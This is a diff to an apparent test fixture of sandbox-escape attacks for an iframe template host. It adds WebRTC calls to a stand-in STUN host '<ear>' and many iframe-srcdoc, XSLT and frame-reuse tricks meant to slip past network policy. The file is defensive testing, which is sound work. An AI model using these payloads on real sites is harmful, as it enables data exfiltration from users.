@@ -1,7 +1,7 @@
 /** Programs that try to get out of the frame, look at what is not theirs, or take the menu away. */
 export type Attack = {
   name: string
-  /** Runs in the component's effect; EVIL and <evil> are the address of a listening stranger. */
+  /** Runs in the component's effect; EVIL and <evil> are the address of a listening stranger, <ear> where he takes calls. */
   effect?: string
   /** Runs while the component renders. */
   render?: string
@@ -67,10 +67,76 @@ const sending: Attack[] = [
     name: 'own server',
     effect: "fetch('/api/public/stats').then(() => leak('own'), () => {}); new Image().src = '/api/docs'",
   },
+]
+
+/** Calls between browsers, which no policy forbids: wherever they can be made, a packet reaches the stranger. */
+const calling: Attack[] = [
   {
     name: 'call between browsers',
-    effect: `const rtc = globalThis.RTCPeerConnection ?? add('iframe', {}).contentWindow.RTCPeerConnection
-      leak('call')`,
+    effect:
+      'for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection"]) attempt(() => call(globalThis[name]))',
+  },
+  {
+    name: 'call from a page within',
+    effect: `
+      const text = '<script src="' + document.scripts[1].src + '"></' + 'script>'
+      const page = '<iframe srcdoc="' + text.replaceAll('"', '&quot;') + '"></iframe>'
+      const frame = () => document.createElement('iframe')
+      const show = (element) => document.body.append(element)
+      attempt(() => show(Object.assign(frame(), { srcdoc: text })))
+      attempt(() => { const one = frame(); one.setAttribute('srcdoc', text); show(one) })
+      attempt(() => { const one = frame(); one.setAttributeNS(null, 'srcdoc', text); show(one) })
+      attempt(() => {
+        const [one, attribute] = [frame(), document.createAttribute('srcdoc')]
+        attribute.value = text
+        one.setAttributeNode(attribute)
+        show(one)
+      })
+      attempt(() => { const one = frame(); show(one); one.srcdoc = ''; one.attributes.srcdoc.value = text })
+      attempt(() => { add('div', {}).innerHTML = page })
+      attempt(() => { add('div', {}).setHTMLUnsafe(page) })
+      attempt(() => { add('div', {}).outerHTML = page })
+      attempt(() => add('div', {}).insertAdjacentHTML('beforeend', page))
+      attempt(() => { add('div', {}).attachShadow({ mode: 'closed' }).innerHTML = page })
+      attempt(() => show(document.createRange().createContextualFragment(page)))
+      attempt(() => {
+        const template = document.createElement('template')
+        template.innerHTML = page
+        show(template.content.cloneNode(true))
+      })
+      attempt(() => show(document.adoptNode(new DOMParser().parseFromString(page, 'text/html').body.firstChild)))
+      attempt(() => show(document.adoptNode(Document.parseHTMLUnsafe(page).body.firstChild)))
+      attempt(() => { const other = document.implementation.createHTMLDocument(''); other.write(page); show(other.body.firstChild) })
+      attempt(() => document.write(page))`,
+  },
+  {
+    name: 'call from a page within that a style sheet makes',
+    effect: `
+      const XSL = 'http://www.w3.org/1999/XSL/Transform'
+      const sheet = document.implementation.createDocument(XSL, 'xsl:stylesheet')
+      const within = (parent, element, attributes) => {
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+        parent.append(element)
+        return element
+      }
+      sheet.documentElement.setAttribute('version', '1.0')
+      const rule = within(sheet.documentElement, sheet.createElementNS(XSL, 'xsl:template'), { match: '/' })
+      const frame = within(rule, sheet.createElement('iframe'), {})
+      const page = within(frame, sheet.createElementNS(XSL, 'xsl:attribute'), { name: 'srcdoc' })
+      page.textContent = '<script src="' + document.scripts[1].src + '"></' + 'script>'
+      attempt(() => {
+        const processor = new XSLTProcessor()
+        processor.importStylesheet(sheet)
+        document.body.append(processor.transformToFragment(sheet, document))
+      })`,
+  },
+  {
+    name: 'call through a frame within',
+    effect: `
+      attempt(() => call(add('iframe', {}).contentWindow.RTCPeerConnection))
+      for (const src of ['javascript:0', 'data:text/html,0', location.href, URL.createObjectURL(new Blob(['0']))])
+        attempt(() => { const { contentWindow } = add('iframe', { src }); setTimeout(() => attempt(() => call(contentWindow.RTCPeerConnection)), 500) })
+      attempt(() => call(open('', '_blank').RTCPeerConnection))`,
   },
 ]
 
@@ -135,12 +201,21 @@ const taking: Attack[] = [
   },
 ]
 
-export const attacks = { sending, leading, reading, taking }
+export const attacks = { sending, calling, leading, reading, taking }
 
 /** A template file as the frame loads it, without the guards that an upload adds: the frame alone must hold. */
-export const hostileFile = (attack: Attack, evil: string) => fileOf(attack).replaceAll('<evil>', evil)
+export const hostileFile = (attack: Attack, { evil, ear }: { evil: string; ear: string }) =>
+  fileOf(attack).replaceAll('<evil>', evil).replaceAll('<ear>', ear)
 
 const fileOf = ({ load = '', render = '', effect = '' }: Attack) => `
+function call(Connection) {
+  const line = (globalThis.line = new Connection({ iceServers: [{ urls: 'stun:<ear>' }] }))
+  line.createDataChannel('menu')
+  line.createOffer().then((offer) => line.setLocalDescription(offer))
+}
+const attempt = (work) => { try { work() } catch {} }
+// Loaded again in a page where our own script has never been.
+if (!globalThis.thelaTemplate) call(RTCPeerConnection)
 thelaTemplate(function (require, module, exports, React) {
   const EVIL = '<evil>'
   const leak = (leaked) => parent.postMessage({ leaked }, '*')
